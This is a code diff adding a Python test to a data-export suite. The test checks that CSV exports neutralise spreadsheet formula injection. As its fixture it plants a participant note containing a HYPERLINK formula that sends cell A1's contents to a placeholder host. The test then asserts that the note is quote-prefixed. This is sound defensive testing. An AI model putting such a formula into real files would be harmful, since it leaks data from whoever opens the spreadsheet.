@@ -257,3 +257,18 @@ def test_geopackage_is_version_1_2_for_older_gdal_and_qgis(analyst, world, tmp_p
     path.write_bytes(body_of(analyst.get(URL.format("blocks.gpkg"))))
     with sqlite3.connect(path) as db:
         assert db.execute("PRAGMA user_version").fetchone()[0] == 10200
+
+
+def test_a_note_that_reads_as_a_formula_is_not_one_in_the_csv(analyst, world):
+    # A participant's note could otherwise run in the planner's spreadsheet.
+    import csv
+    import io
+
+    world["obs"]["lamp_out"].note = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    world["obs"]["lamp_out"].save()
+    rows = list(
+        csv.DictReader(io.StringIO(body_of(analyst.get(URL.format("observations.csv"))).decode()))
+    )
+    [note] = [r["note"] for r in rows if r["id"] == str(world["obs"]["lamp_out"].pk)]
+    assert note == "'" + world["obs"]["lamp_out"].note
+    assert all(not r["note"].startswith(("=", "+", "-", "@")) for r in rows)
